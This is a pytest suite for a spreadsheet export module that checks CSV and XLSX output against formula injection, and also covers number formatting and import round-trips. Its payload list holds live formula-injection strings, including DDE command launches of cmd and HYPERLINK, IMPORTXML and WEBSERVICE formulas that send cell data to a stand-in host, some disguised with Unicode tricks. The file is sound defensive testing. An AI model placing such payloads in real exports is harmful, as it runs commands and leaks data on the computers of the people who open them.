"""Tables that go out: nothing runs, numbers stay numbers, and the same data comes back."""

import csv
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from banfa.platform.exports import tables
from banfa.platform.exports.cells import as_csv, safe_cell
from banfa.platform.exports.tables import TooManyRows, write_csv, write_xlsx
from banfa.platform.imports.checking import check
from banfa.platform.imports.columns import Column
from banfa.platform.imports.reading import read_file
from banfa.policy.model import FieldType, Typed

PAYLOADS = [
    "=1+1", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000=1+1", "\u00a0=1+1", "\x00=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"click")', "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", '=WEBSERVICE("http://x")',
    "=cmd|'/C notepad'!'A1'", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@A1", "-1", "+1", "=", "+", "-", "@", "'=1+1", "''=1",
    ' "=1+1"', "\u00ad=1", "\u2060=1", "\u202e=1", "﹦1", "﹢1", "﹣1", "﹫1", "=1;=2",
]  # fmt: skip
ORDINARY = ["甲店", "1=1", "a@b.cn", "5-3", "", "x, y", 'say "hi"', "0012", "1e5", "http://x", "TRUE", "'"]


def first_shown(text: str) -> str:
    """The first character that a spreadsheet would look at."""
    return re.sub(r"^[\s\x00-\x20\u00ad\u200b\u2060\ufeff\u202e\u3000\u00a0]+", "", text)[:1]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_begins_like_a_formula(payload: str, tmp_path: Path) -> None:
    write_csv(tmp_path / "out.csv", ["name"], [[payload]])

    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        (_, (cell,)) = list(csv.reader(file))
    assert first_shown(cell) not in tuple("=+-@＝＋－＠﹦﹢﹣﹫")
    assert safe_cell(payload) == cell


def test_no_workbook_cell_is_a_formula_or_a_link(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "out.xlsx", ["=A1"], [[payload] for payload in PAYLOADS + ORDINARY], sheet="客户")

    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        markup = archive.read("xl/worksheets/sheet1.xml").decode()
        names = archive.namelist()
    assert "<f>" not in markup
    assert "<hyperlink" not in markup
    assert not any("externalLink" in name for name in names)


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (-5, "-5"),
        (Decimal("-12.50"), "-12.5"),
        (Decimal("1E+3"), "1000"),
        (Decimal("0.000"), "0"),
        (True, "true"),
        (date(2026, 1, 5), "2026-01-05"),
        (None, ""),
        ("-5", "'-5"),
    ],
)
def test_numbers_are_plain_and_never_escaped(value: object, text: str) -> None:
    assert as_csv(value) == text  # type: ignore[arg-type]


def test_a_workbook_keeps_numbers_numeric_and_long_ones_whole(tmp_path: Path) -> None:
    row = [Decimal("-12.50"), 7, True, date(2026, 1, 5), Decimal("1234567890123456.78"), "00123"]
    write_xlsx(tmp_path / "out.xlsx", list("abcdef"), [row], sheet="s")

    book = CalamineWorkbook.from_path(str(tmp_path / "out.xlsx"))

    found = list(book.get_sheet_by_index(0).iter_rows())[1]
    assert found == [-12.5, 7.0, True, date(2026, 1, 5), "1234567890123456.78", "00123"]


def test_excel_gets_its_mark_and_line_ends(tmp_path: Path) -> None:
    write_csv(tmp_path / "out.csv", ["名称"], [["甲店"]], bom=True)
    write_csv(tmp_path / "plain.csv", ["名称"], [["甲店"]])

    assert (tmp_path / "out.csv").read_bytes() == b"\xef\xbb\xbf" + "名称\r\n甲店\r\n".encode()
    assert (tmp_path / "plain.csv").read_bytes() == "名称\n甲店\n".encode()


IMPORTABLE = [
    words
    for words in PAYLOADS + ORDINARY
    if words
    and re.fullmatch(r"[^\s\x00\u00ad\u200b\u2060\ufeff\u202e].*[^\s]|\S", words)
    and "\n" not in words
]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_is_exported_comes_back_the_same(kind: str, tmp_path: Path) -> None:
    path = tmp_path / f"out.{kind}"
    rows = [[f"C{number}", words, Decimal(number) / 8 - 2] for number, words in enumerate(IMPORTABLE)]
    if kind == "csv":
        write_csv(path, ["code", "name", "amount"], rows)
    else:
        write_xlsx(path, ["code", "name", "amount"], rows, sheet="s")
    columns = [
        Column(name="code", field=Typed(title={"zh": "编码", "en": "code"}), required=True),
        Column(name="name", field=Typed(title={"zh": "名称", "en": "name"})),
        Column(name="amount", field=Typed(title={"zh": "额", "en": "amount"}, type=FieldType.DECIMAL)),
    ]

    found = check(read_file(path, work=tmp_path), columns, work=tmp_path, today=date(2026, 10, 8))

    assert found.first_errors(3) == []
    with found.engine() as engine:
        back = engine.execute(f"SELECT code, name, amount FROM {found.good_rows} ORDER BY row").fetchall()
    assert len(IMPORTABLE) > 35
    assert [list(row) for row in back] == rows


def test_a_sheet_has_an_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MOST_ROWS", 3)

    with pytest.raises(TooManyRows, match="use CSV"):
        write_xlsx(tmp_path / "out.xlsx", ["a"], [["x"]] * 4, sheet="s")


def test_a_text_longer_than_a_cell_is_cut_visibly(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "out.xlsx", ["a"], [["长" * 40_000]], sheet="s")

    (cell,) = list(CalamineWorkbook.from_path(str(tmp_path / "out.xlsx")).get_sheet_by_index(0).iter_rows())[
        1
    ]
    assert len(cell) == 32_767
    assert cell.endswith("…")
